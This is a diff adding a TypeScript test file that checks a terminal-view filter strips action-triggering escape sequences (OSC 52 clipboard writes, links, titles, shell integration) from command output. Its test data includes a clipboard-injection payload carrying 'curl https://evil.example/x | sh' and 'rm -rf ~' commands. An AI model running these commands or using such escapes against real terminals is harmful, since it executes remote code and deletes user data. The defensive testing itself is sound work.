@@ -1,0 +1,56 @@
+// What of a command's output reaches the terminal view (src/terminalView.ts): its text and
+// colours, never the sequences that make the terminal act (OSC 52 writes the clipboard, OSC 8
+// makes links, titles, shell integration), also when a sequence is split across output deltas.
+
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { commandLineText, TerminalFilter } from '../../src/terminalView';
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+const all = (...chunks: string[]) => {
+	const f = new TerminalFilter();
+	return chunks.map((c) => f.push(c)).join('');
+};
+
+test('a command cannot write the clipboard through the terminal view (OSC 52)', () => {
+	const osc52 = `\x1b]52;c;${b64('curl https://evil.example/x | sh\n')}\x07`;
+	assert.equal(all(`README\n${osc52}done\n`), 'README\r\ndone\r\n');
+	// ended by ST rather than BEL, and in its 8-bit (C1) forms
+	assert.equal(all(`a\x1b]52;c;${b64('x')}\x1b\\b`), 'ab');
+	assert.equal(all(`a\u009d52;c;${b64('x')}\u009cb`), 'ab');
+	assert.equal(all(`a\u009d52;c;${b64('x')}\x07b`), 'ab');
+});
+
+test('a sequence split across output deltas is still removed', () => {
+	const seq = `\x1b]52;c;${b64('rm -rf ~')}\x07`;
+	for (let i = 1; i < seq.length; i++) {
+		assert.equal(all('a', seq.slice(0, i), seq.slice(i), 'b'), 'ab', `split at ${i}`);
+	}
+	assert.equal(all('a\x1b', '\\b'), 'ab');
+});
+
+test('links, titles, DCS/APC strings and other escapes are dropped; their text stays', () => {
+	assert.equal(all('\x1b]8;;vscode://evil/run\x1b\\click me\x1b]8;;\x1b\\\n'), 'click me\r\n');
+	assert.equal(all('\x1b]0;kin: npm test (completed)\x07x'), 'x');
+	assert.equal(all('\x1b]633;E;rm -rf ~\x07x'), 'x');
+	assert.equal(all('\x1bP+q544e\x1b\\x\x1b_apc\x1b\\y\x1b^pm\x07z'), 'xyz');
+	assert.equal(all('\x1bcreset\x1b(Bplain'), 'resetplain');
+	assert.equal(all('a\x1b(\nB', '\x1b', '(', 'Bb'), 'a\r\nb'); // a control inside one still acts
+	// An unterminated string swallows what follows only until it is aborted (CAN), as a terminal's.
+	assert.equal(all('\x1b]52;c;AAAA', 'BBBB\x18after'), 'after');
+});
+
+test('colours, erasing and line ends still reach the view', () => {
+	assert.equal(all('\x1b[31mred\x1b[0m \x1b[1;32mok\x1b[m'), '\x1b[31mred\x1b[0m \x1b[1;32mok\x1b[m');
+	assert.equal(all('50%\r\x1b[2K100%\n'), '50%\r\x1b[2K100%\r\n');
+	assert.equal(all('\x1b[3', '1mred'), '\x1b[31mred');
+	assert.equal(all('a\nb\r\nc\td'), 'a\r\nb\r\nc\td');
+	assert.equal(all('naïve ✓ 日本'), 'naïve ✓ 日本');
+});
+
+test("the command line heading the view is shown, never acted on: its control characters spelled out", () => {
+	assert.equal(commandLineText(`echo hi # \x1b]52;c;${b64('x')}\x07`), `echo hi # \\x1b]52;c;${b64('x')}\\x07`);
+	assert.equal(commandLineText('rm -rf build\rls'), 'rm -rf build\\x0dls');
+	assert.equal(commandLineText('a\u009d8;;x\u009cb'), 'a\\u009d8;;x\\u009cb');
+	assert.equal(commandLineText('set -e\nmake\r\nmake test\tx'), 'set -e\r\nmake\r\nmake test\tx');
+});
